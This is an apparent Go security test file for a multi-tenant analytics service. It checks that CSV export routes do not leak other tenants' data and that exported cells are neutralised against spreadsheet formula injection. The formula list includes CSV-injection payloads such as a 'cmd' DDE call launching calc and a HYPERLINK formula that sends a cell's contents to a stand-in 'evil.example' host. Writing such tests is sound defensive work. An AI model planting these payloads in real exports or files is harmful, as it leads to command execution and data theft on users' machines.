package attack

import (
	"encoding/csv"
	"fmt"
	"strings"

	"github.com/unmogrowp/unmogrowp/aggregator/access"
	"github.com/unmogrowp/unmogrowp/aggregator/report"
)

func exportAttacks() []attack {
	return []attack{
		{id: 35, run: attack35ForeignExport, denied: "access.denied", note: "exports are answers, not jobs: there is no id to guess"},
		{id: 43, run: attack43Formulas, full: true},
	}
}

// exports are the routes that answer with CSV.
func exports() []string {
	return []string{"reports/overview", "reports/timeseries", "reports/attribution", "reports/compare", "reports/sources", "reports/paths", "conversions"}
}

func attack35ForeignExport(s *suite) {
	n := s.tenants()
	ask := func(app, path, token string) *answer {
		return s.with("Accept", "text/csv").call(s.Aggregators[0].URL, "GET", "apps/"+app+"/"+path, token, nil)
	}
	for _, path := range exports() {
		seen := map[string]bool{}
		for _, app := range []string{n.theirs, absentID, strings.ToUpper(n.theirs)} {
			for _, query := range []string{"?format=csv", "?format=json", ""} {
				p := ask(app, path+query, n.token).want(404).problem()
				seen[p.Code+p.Detail] = true
			}
		}
		if len(seen) != 1 {
			s.Errorf("%s tells foreign from missing: %v", path, seen)
		}
		got := ask(n.mine, path+"?format=csv", n.token).want(200)
		if strings.Contains(string(got.body), n.conversion) {
			s.Errorf("%s of one app has a conversion of another", path)
		}
		s.with("Accept", "text/csv").call(s.Aggregators[0].URL, "GET", "apps/"+n.theirs+"/"+path, "", nil).want(401)
	}
	// Nobody finds a job or a file by its id.
	for _, id := range []string{"1", absentID, n.conversion, n.theirs, "..", "latest", "conversions.csv"} {
		for _, path := range []string{"apps/" + n.theirs + "/exports/" + id, "apps/" + n.mine + "/exports/" + id, "exports/" + id, "jobs/" + id, "apps/" + n.theirs + "/exports/" + id + "/download", "files/" + id} {
			s.console("GET", path, n.token, nil).want(404)
		}
	}
	// Who may read reports takes conversions away without ids, and raw rows not at all.
	s.person("reports-only@example.com", access.Assignment{Role: access.Viewer, Apps: []string{n.mine}})
	viewer := s.login("reports-only@example.com", password)
	ask(n.mine, "reports/sources?format=csv", viewer).want(200)
	for _, row := range s.table(ask(n.mine, "conversions?format=csv", viewer).want(200))[1:] {
		if !strings.HasPrefix(row[0], "j_") {
			s.Errorf("a viewer is given the id %s", row[0])
		}
	}
	ask(n.mine, "events", viewer).want(403)
	s.console("GET", "audit/export", viewer, nil).want(403)
}

// formulas are what spreadsheets compute.
func formulas() []string {
	return []string{"=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "=HYPERLINK(\"https://evil.example/?\"&A1)", "\n=1", "|calc", "%0A=1", "＝1+1", "\",=1+1", "=1\r\n=2"}
}

func attack43Formulas(s *suite) {
	app, _, server := s.app("=1+1")
	for i, formula := range formulas() {
		touch := map[string]any{"id": fmt.Sprintf("=touch%d", i), "kind": "click", "media_source": formula, "campaign": formula, "keys": map[string]string{"user_id": formula}}
		order := map[string]any{"event": "Order Completed", "userId": formula, "messageId": fmt.Sprintf("=order%d", i), "properties": map[string]any{"revenue": -1.5, "currency": "EUR"}}
		s.as("").event(s.Agents[0], server, "/v1/s2s/touch?sync=true", touch).want(200, 400)
		s.as("").event(s.Agents[0], server, "/v1/track?sync=true", order).want(200, 400)
	}
	var rows [][]string
	s.Await("the conversions are credited", func() error {
		got := s.quiet().call(s.Aggregators[0].URL, "GET", "apps/"+app+"/conversions?format=csv", s.owner, nil).want(200)
		rows = s.table(got)
		if len(rows) <= len(formulas())/2 || !strings.Contains(string(got.body), "cmd|") {
			return fmt.Errorf("%d rows", len(rows))
		}
		return nil
	})
	for _, path := range exports() {
		since := s.newest()
		for _, query := range []string{"?format=csv", "?format=csv&from=2026-01-01"} {
			got := s.console("GET", "apps/"+app+"/"+path+query, s.owner, nil).want(200)
			if kind := got.header.Get("Content-Type"); !strings.HasPrefix(kind, "text/csv") || !strings.HasPrefix(got.header.Get("Content-Disposition"), "attachment; ") {
				s.Errorf("%s: %s, %s", got.what, kind, got.header.Get("Content-Disposition"))
			}
			rows = s.table(got)
			for _, row := range rows[1:] {
				for i, cell := range row {
					if first := strings.TrimLeft(cell, " "); first != "" && strings.ContainsAny(first[:1], "=+-@\t\r\n|%") && !isNumber(cell) {
						s.Errorf("%s: column %s holds %q", got.what, rows[0][i], cell)
					}
				}
			}
		}
		entries := s.entries(since, "report.export")
		if len(entries) != 2 || entries[0].App != app || !strings.Contains(strings.ReplaceAll(string(entries[0].Detail), " ", ""), fmt.Sprintf(`"rows":%d`, len(rows)-1)) || !strings.Contains(string(entries[0].Detail), "2026-01-01") {
			s.Errorf("%s: the audit log says %+v", path, entries)
		}
	}
	for _, query := range []string{"?format=xls", "?format=csv&format=json", "?format=csv&limit=1e9", "?format=csv;x"} {
		s.console("GET", "apps/"+app+"/conversions"+query, s.owner, nil).want(400)
	}
	if len(rows) > report.MaxExport+1 {
		s.Errorf("%d rows", len(rows))
	}
}

// table reads CSV as a spreadsheet would.
func (s *suite) table(a *answer) [][]string {
	s.Helper()
	rows, err := csv.NewReader(strings.NewReader(string(a.body))).ReadAll()
	if err != nil || len(rows) == 0 {
		s.Fatalf("%s: %v in %.300s", a.what, err, a.body)
	}
	return rows
}

// isNumber says whether a cell is a plain decimal number.
func isNumber(cell string) bool {
	digits := strings.TrimPrefix(cell, "-")
	return digits != "" && strings.Trim(digits, "0123456789.") == ""
}
